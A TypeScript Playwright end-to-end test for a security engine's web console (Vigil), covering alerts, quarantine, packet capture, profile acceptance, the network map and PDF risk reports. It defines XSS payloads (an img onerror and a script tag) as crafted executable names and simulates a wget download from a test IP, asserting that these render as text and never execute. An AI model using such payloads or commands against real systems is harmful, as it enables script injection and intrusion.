// The console in a real browser (Debian's headless Chromium through
// playwright-core) against a real engine fed by a synthetic probe over real
// gRPC: each page loads and shows what the engine knows, the actions
// clicked there change the engine (mode, quarantine, capture, an anomaly
// accepted into the profile) and land in the audit log, attacker-made
// executable names and arguments show as text and never run, and the page
// raises no error (a CSP violation would be one). Screenshots of each view
// are kept in test-artifacts/console/.
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type cytoscape from 'cytoscape';
import type { AuditRecord } from '../../../src/control/audit.js';
import { ARTIFACTS, openBrowser, screenshot, describeBrowser, type TestBrowser } from '../../support/browser.js';
import { ConsoleFixture } from '../../support/console.js';
import { waitFor } from '../../support/kernel.js';

/** A PDF's text page by page (poppler's pdftotext, from Debian's poppler-utils, which setup installs for npm test). */
function pdfPages(pdf: Buffer): string[] {
  expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
  const r = spawnSync('pdftotext', ['-layout', '-', '-'], { input: pdf, encoding: 'utf8' });
  if (r.error) throw new Error(`pdftotext (poppler-utils) is needed to read the printed report: ${r.error.message}`);
  return r.stdout.split('\f').filter((p) => p.trim() !== '');
}

/** Printed cleanly: A4 pages with the report and nothing of the console around it, no section split across two pages. */
function expectCleanReport(pages: string[], title: string): void {
  const all = pages.join('\n');
  expect(pages[0]).toContain(title);
  for (const chrome of ['Alerts', 'Network', 'Open printable report', 'Download HTML']) expect(all).not.toContain(chrome);
  // Every workload's section, from its heading to its last factor, is on one page.
  for (const w of ['shop-web', 'shop-db', 'batch']) {
    const heading = new RegExp(`^\\s*${w}\\s+\\d+(\\s+(low|medium|high|critical))?\\s*$`, 'm');
    const page = pages.find((p) => heading.test(p));
    expect(page, `${w}'s section`).toBeDefined();
    expect(page!.slice(page!.search(heading)), `${w}'s section on one page`).toContain('Critical and error');
  }
  expect(all).toMatch(/Processes run as root\s+1: \/usr\/bin\/python3\s+10/);
  // Words wrap whole (only a long path may break anywhere).
  expect(all).toMatch(/recorded, not\s+(\d+\s+)?flagged\b/);
}

const EVIL_EXE = '/tmp/<img src=x onerror="window.__xss=1">';
const EVIL_ARG = '</code><script>window.__xss=2</script>';

describeBrowser('the console in a real browser', () => {
  let f: ConsoleFixture;
  let b: TestBrowser;

  /** The engine's one audit log (the CLI's actions go there too). */
  const audit = (): AuditRecord[] => {
    try {
      return readFileSync(join(f.t.dir, 'state', 'audit.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as AuditRecord);
    } catch {
      return [];
    }
  };

  beforeAll(async () => {
    f = await ConsoleFixture.start(['shop-web', 'shop-db', 'batch']);
    // What the workloads normally do, learned.
    const web = f.exec('shop-web', '/usr/bin/node', ['node', 'server.js']);
    f.open('shop-web', '/srv/app/index.js', false, web);
    f.listen('shop-db', '0.0.0.0', 5432);
    f.accept('shop-db', '10.1.0.2', 5432, '10.1.0.3');
    f.listen('shop-db', '10.1.0.2', 5432);
    f.connect('shop-web', '10.1.0.2', 5432, web);
    f.exec('batch', '/usr/bin/python3', ['python3', 'job.py'], { uid: 0 });
    await waitFor('the first events', () => f.t.events.length === 7);
    const w = f.t.engine.workloads.find('shop-web')!;
    expect((await f.t.engine.profiles.changeMode(w, 'monitor')).ok).toBe(true);
    // Then something new: a crafted executable name and argument, a new destination.
    f.exec('shop-web', EVIL_EXE, [EVIL_EXE, EVIL_ARG], { ppid: web });
    f.connect('shop-web', '203.0.113.9', 4444, web);
    await waitFor('two anomalies', () => f.t.engine.alertsRaised >= 2);
    b = await openBrowser();
    // The token handed over in the URL fragment (never sent to the server; the page takes it out of the address bar).
    await b.page.goto(`${f.base}/#token=${encodeURIComponent(f.token)}`);
  }, 60_000);

  afterAll(async () => {
    await b?.close();
    await f?.stop();
  });

  it('signs in with the token from the fragment, and takes it out of the address bar', async () => {
    await b.page.waitForSelector('header nav');
    expect(b.page.url()).not.toContain(f.token);
    expect(await b.page.locator('header .node').textContent()).toBe('node test-node');
    await b.page.waitForSelector('header .live.on');
  });

  it('Alerts: counts, filters, and an alert opened up — attacker text shown as text', async () => {
    const page = b.page;
    await page.waitForSelector('table.alerts-table tbody tr.row');
    // Two anomalies (new executable, new destination) and the two signature rules the same events hit.
    expect(await page.locator('table.alerts-table tbody tr.row').count()).toBe(4);
    expect((await page.locator('table.alerts-table tbody tr.row td:nth-child(3)').allTextContents()).sort()).toEqual(
      ['Connection to a mining pool port', 'Execution from a temporary directory', 'new-egress', 'new-executable']);
    // The crafted name is on the page as the characters it is, and nothing of it ran.
    // (quoted in the message, as free text is in every sink: the engine's escaping)
    await page.getByText(`new executable ${JSON.stringify(EVIL_EXE)}`, { exact: false }).first().waitFor();
    expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
    expect(await page.locator('img[src="x"]').count()).toBe(0);
    expect(await page.locator('.chart canvas').count()).toBeGreaterThan(0);
    await screenshot(page, 'alerts');
    // The view the README shows (docs/console.png is a copy of one of these).
    await page.screenshot({ path: join(ARTIFACTS, 'readme-alerts.png') });
    // Filter by free text, then open the alert.
    await page.fill('input[name=q]', 'onerror');
    await page.waitForFunction(() => document.querySelectorAll('table.alerts-table tbody tr.row').length === 2);
    await page.fill('input[name=q]', 'new executable');
    await page.waitForFunction(() => document.querySelectorAll('table.alerts-table tbody tr.row').length === 1);
    await page.locator('table.alerts-table tbody tr.row').first().click();
    const detail = page.locator('tr.expanded .detail');
    await detail.waitFor();
    const text = (await detail.textContent()) ?? '';
    expect(text).toContain(EVIL_ARG);
    expect(text).toContain('/usr/bin/node'); // the parent in the ancestry
    expect(text).toContain('new-executable'); // output field vigil.anomaly
    expect(await page.locator('tr.expanded script').count()).toBe(0);
    expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
    await screenshot(page, 'alert-expanded');
    // Priority filter: warning or worse still has it; the live stream brings a new one in.
    await page.selectOption('select[name=priority]', 'warning');
    await page.fill('input[name=q]', '');
    await page.waitForFunction(() => document.querySelectorAll('table.alerts-table tbody tr.row').length === 4);
    f.exec('shop-web', '/usr/bin/wget', ['wget', 'http://203.0.113.9/x']);
    await page.getByText('new executable /usr/bin/wget').waitFor({ timeout: 10_000 });
  });

  it('Workloads: mode change, quarantine and capture from the page change the engine, each in the audit log', async () => {
    const page = b.page;
    await page.click('header nav a[href="#/workloads"]');
    const row = page.locator('tr[data-workload="batch"]');
    await row.waitFor();
    expect(await page.locator('tr[data-workload="shop-web"] td').nth(4).textContent()).toMatch(/^3 open/); // the crafted executable, the new destination, wget
    await screenshot(page, 'workloads');
    await row.locator('select[name=mode]').selectOption('monitor');
    await row.locator('button.apply-mode').click();
    await page.locator('.toast.ok', { hasText: 'batch is now in monitor mode' }).waitFor();
    expect(f.t.engine.workloads.find('batch')!.mode).toBe('monitor');
    await row.locator('button.quarantine').click();
    await page.locator('tr[data-workload="batch"] .quarantined').waitFor();
    expect(f.t.engine.quarantines.isQuarantined('named:batch')).toBe(true);
    expect(f.probe.commands.some((c) => c.quarantine?.cgroups.some((g) => g.id === f.cgroups.batch))).toBe(true);
    await page.locator('tr[data-workload="batch"] input[aria-label="capture seconds"]').fill('1');
    await page.locator('tr[data-workload="batch"] button.start-capture').click();
    await page.locator('.toast.ok', { hasText: /capturing to batch-.*\.pcap/ }).waitFor();
    expect(f.probe.commands.some((c) => c.startCapture)).toBe(true);
    // The audit log, on disk and on the page.
    expect(audit().map((e) => [e.action, e.target, e.ok, e.via, e.caller.verifiedBy])).toEqual([
      ['set-mode', 'batch', true, 'console', 'token'],
      ['quarantine', 'batch', true, 'console', 'token'],
      ['capture', 'batch', true, 'console', 'token'],
    ]);
    await page.locator('table.audit-table tr', { hasText: 'capture' }).first().waitFor();
    // The capture's end, with its file.
    await page.locator('table.captures-table td.capture-end', { hasText: /\d+ packets, \d+ bytes/ }).waitFor({ timeout: 5000 });
    await page.locator('tr[data-workload="batch"] button.release').click();
    await page.locator('tr[data-workload="batch"] button.quarantine').waitFor();
    expect(f.t.engine.quarantines.isQuarantined('named:batch')).toBe(false);
    await screenshot(page, 'workloads-after-actions');
  });

  it('Profile: what was learned, an anomaly accepted after its diff, and the exports', async () => {
    const page = b.page;
    await page.click('tr[data-workload="shop-web"] a');
    await page.waitForSelector('.page.profile');
    expect(await page.locator('table.exes').textContent()).toContain('/usr/bin/node');
    expect(await page.locator('.page.profile').textContent()).toContain('/srv/app/index.js');
    const anomaly = page.locator('li.anomaly', { hasText: '203.0.113.9' });
    await anomaly.locator('button.accept').click();
    const diff = anomaly.locator('pre.diff');
    await diff.waitFor();
    expect(await diff.textContent()).toBe('+ egress: tcp 203.0.113.9 port 4444\n');
    // Shown, not yet applied.
    expect(f.t.engine.profiles.export('shop-web')[0]!.spec.network.egress.map((r) => r.to)).toEqual(['10.1.0.2']);
    await screenshot(page, 'profile-accept-diff');
    await anomaly.locator('button.apply-accept').click();
    await page.locator('.toast.ok', { hasText: 'is now part of shop-web' }).waitFor();
    expect(f.t.engine.profiles.export('shop-web')[0]!.spec.network.egress.map((r) => r.to).sort()).toEqual(['10.1.0.2', '203.0.113.9']);
    expect(audit().at(-1)).toMatchObject({ action: 'accept-anomaly', target: 'shop-web', ok: true, via: 'console', lowersProtection: true, request: { kind: 'new-egress', what: 'tcp 203.0.113.9:4444' } });
    await page.locator('li.anomaly', { hasText: '203.0.113.9' }).waitFor({ state: 'detached' });
    // The crafted executable is still open, shown as text.
    expect(await page.locator('li.anomaly').count()).toBeGreaterThanOrEqual(1);
    expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
    await page.click('button.export-yaml');
    await page.locator('pre.yaml', { hasText: 'kind: WorkloadProfile' }).waitFor();
    await page.click('button.export-np');
    await page.locator('pre.yaml', { hasText: 'kind: NetworkPolicy' }).waitFor();
    expect(await page.locator('pre.yaml').textContent()).toContain('cidr: 203.0.113.9/32');
    await screenshot(page, 'profile');
  });

  it('Network: the map, coloured by state; clicking an edge shows its details', async () => {
    const page = b.page;
    // Every state an edge can be in: batch (learning) connects out and is then quarantined; a connect of shop-web's is refused.
    f.connect('batch', '192.0.2.10', 443);
    f.send('shop-web', [{ pid: 9001, ppid: 1, uid: 1000, blocked: true, connect: { remote: { family: 2, address: Buffer.from([198, 51, 100, 8]), port: 22 }, protocol: 6, result: -1 } }]);
    await waitFor('both connects seen', () => f.t.events.some((e) => e.blocked) && f.t.events.some((e) => e.type === 'connect' && e.pid !== 9001 && e.workload?.name === 'batch'));
    const q = await f.api<{ ok: boolean }>(`/api/workloads/${encodeURIComponent('named:batch')}/quarantine`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-vigil-console': '1' }, body: '{"reason":"network map test"}' });
    expect(q.body.ok).toBe(true);
    await page.click('header nav a[href="#/network"]');
    await page.waitForSelector('.graph canvas');
    await page.locator('table.edges-table .state', { hasText: 'quarantined' }).first().waitFor();
    const states = await page.locator('table.edges-table .state').allTextContents();
    for (const st of ['learned', 'anomalous', 'blocked', 'quarantined']) expect(states, st).toContain(st);
    // On the canvas each state has its own colour, the legend's.
    const drawn = await page.evaluate(() => {
      const cy = (document.querySelector('.graph') as HTMLElement & { _cyreg?: { cy: cytoscape.Core } })._cyreg!.cy;
      return cy.edges().map((e): [string, string, string] => [e.data('state') as string, e.style('line-color') as string, `${e.source().data('label')} → ${e.target().data('label')} ${e.data('label')}`]);
    });
    const colour = (st: string) => [...new Set(drawn.filter(([x]) => x === st).map(([, c]) => c))];
    const hex = (h: string) => `rgb(${[1, 3, 5].map((i) => parseInt(h.slice(i, i + 2), 16)).join(',')})`;
    const legend = { learned: '#2e7d32', anomalous: '#ef6c00', blocked: '#c62828', quarantined: '#6a1b9a' };
    for (const [st, c] of Object.entries(legend)) expect(colour(st).map((x) => x.replace(/\s/g, '')), st).toEqual([hex(c)]);
    expect(drawn.find(([st]) => st === 'blocked')![2]).toBe('shop-web → 198.51.100.8 22/tcp');
    expect(drawn.find(([st]) => st === 'quarantined')![2]).toBe('batch → 192.0.2.10 443/tcp');
    // Click the web → db edge on the canvas, where cytoscape drew it.
    const at = await page.evaluate(() => {
      const el = document.querySelector('.graph') as HTMLElement & { _cyreg?: { cy: cytoscape.Core } };
      const cy = el._cyreg!.cy;
      const edge = cy.edges().filter((e) => e.data('label') === '5432/tcp' && e.source().data('label') === 'shop-web')[0]!;
      const m = edge.renderedMidpoint();
      const r = el.getBoundingClientRect();
      return { x: r.left + m.x, y: r.top + m.y };
    });
    await page.mouse.click(at.x, at.y);
    const detail = page.locator('.edge-detail');
    await detail.waitFor();
    const text = (await detail.textContent()) ?? '';
    expect(text).toContain('shop-web → shop-db');
    expect(text).toMatch(/port5432/);
    expect(text).toMatch(/protocoltcp/);
    expect(text).toMatch(/connections1/);
    await screenshot(page, 'network');
    expect((await f.api<{ ok: boolean }>(`/api/workloads/${encodeURIComponent('named:batch')}/release`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-vigil-console': '1' }, body: '{}' })).body.ok).toBe(true);
  });

  it('Risk: scores with their factors, and a report that prints to PDF', async () => {
    const page = b.page;
    await page.click('header nav a[href="#/risk"]');
    await page.waitForSelector('table.risk-table tbody tr');
    await page.click('tr[data-workload="batch"]');
    const factors = page.locator('tr.expanded table.factors');
    await factors.waitFor();
    expect(await factors.locator('tr[data-factor="root-processes"]').textContent()).toContain('/usr/bin/python3');
    await screenshot(page, 'risk');
    await page.click('a.open-report');
    await page.waitForSelector('article.report h1');
    expect(await page.locator('article.report h1').textContent()).toBe('Vigil risk report: node test-node');
    await screenshot(page, 'report');
    await page.emulateMedia({ media: 'print' });
    expect(await page.locator('.no-print').isVisible()).toBe(false);
    const printed = pdfPages(await page.pdf({ format: 'A4', path: join(ARTIFACTS, 'report.pdf') }));
    expectCleanReport(printed, 'Vigil risk report: node test-node');
    await page.emulateMedia({ media: 'screen' });
    // The downloadable file (standalone HTML, its own CSP) prints the same way: one namespace's report here.
    const file = await f.api<string>('/api/report?namespace=');
    expect(file.headers.get('content-type')).toMatch(/^text\/html/);
    const standalone = await b.context.newPage();
    try {
      await standalone.setContent(file.body);
      expectCleanReport(pdfPages(await standalone.pdf({ format: 'A4', path: join(ARTIFACTS, 'report-file.pdf') })), 'Vigil risk report: node test-node');
    } finally {
      await standalone.close();
    }
  });

  it('raised no error in the page (CSP violations included)', () => {
    expect(b.errors).toEqual([]);
  });
});
